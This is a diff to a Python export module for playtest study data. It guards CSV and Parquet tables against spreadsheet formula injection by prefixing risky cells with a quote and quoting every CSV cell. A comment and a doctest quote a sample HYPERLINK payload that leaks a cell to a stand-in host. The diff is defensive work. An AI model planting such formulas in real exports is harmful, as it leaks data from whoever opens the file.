@@ -39,6 +39,7 @@ top-level prop as its own ``props.<key>`` column so a spreadsheet can filter on 
 
 from __future__ import annotations
 
+import csv
 import json
 import math
 import re
@@ -259,6 +260,27 @@ def _json_text(value: Any) -> Any:
     return value
 
 
+#: A spreadsheet reads a cell starting with one of these as a formula (OWASP, "CSV
+#: Injection"; ASVS 1.2.10 adds NUL): ``=HYPERLINK("http://x/?leak="&A1,"Click")`` in a
+#: tester's answer would run when the designer opens the export.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
+
+
+def neutralised(value: Any) -> Any:
+    """A text cell as a spreadsheet must show it: with a leading ``'`` when it starts like
+    a formula (OWASP's rule); numbers and other texts as they are. JSON Lines exports
+    keep every value exact; only the CSV and Parquet tables do this.
+
+    >>> print(neutralised('=HYPERLINK("http://x.example/?leak="&A1,"Click")'))
+    '=HYPERLINK("http://x.example/?leak="&A1,"Click")
+    >>> neutralised("-3"), neutralised(-3), neutralised("fine")
+    ("'-3", -3, 'fine')
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def export_tables(engine: Engine, study_id: str, out: str | Path, fmt: str) -> dict[str, Path]:
     """Write one tidy table per record kind as CSV or Parquet; returns kind → file."""
     return export_tables_counted(engine, study_id, out, fmt)[0]
@@ -286,7 +308,11 @@ def table_paths(out: str | Path, fmt: str) -> dict[str, Path]:
 def export_tables_counted(
     engine: Engine, study_id: str, out: str | Path, fmt: str
 ) -> tuple[dict[str, Path], dict[str, int]]:
-    """:func:`export_tables`, also returning the rows per kind; all files or none."""
+    """:func:`export_tables`, also returning the rows per kind; all files or none.
+
+    Every text cell is :func:`neutralised` (a leading ``'`` before a formula's first
+    character), and a CSV quotes every cell, so no cell a tester wrote runs as a formula
+    in a spreadsheet."""
     from playtest.storage.outfiles import written_together
 
     if fmt not in ("csv", "parquet"):
@@ -297,7 +323,8 @@ def export_tables_counted(
         if kind == "event":
             for key, value in record["props"].items():
                 record[f"props.{key}"] = _json_text(value)
-        rows[kind].append({key: _json_text(value) for key, value in record.items()})
+        rows[kind].append({key: neutralised(_json_text(value))
+                           for key, value in record.items()})
     # A study whose answers use no known survey gets no table of definitions.
     rows = {kind: records for kind, records in rows.items() if kind != "survey" or records}
     targets = {kind: path for kind, path in table_paths(out, fmt).items() if kind in rows}
@@ -306,7 +333,7 @@ def export_tables_counted(
         for records, temporary in zip(rows.values(), temporaries, strict=True):
             frame = pd.DataFrame.from_records(records)
             if fmt == "csv":
-                frame.to_csv(temporary, index=False)
+                frame.to_csv(temporary, index=False, quoting=csv.QUOTE_ALL)
             else:
                 # Mixed-type columns (answers may be numbers or text) go to Parquet as text.
                 for column in frame.columns:
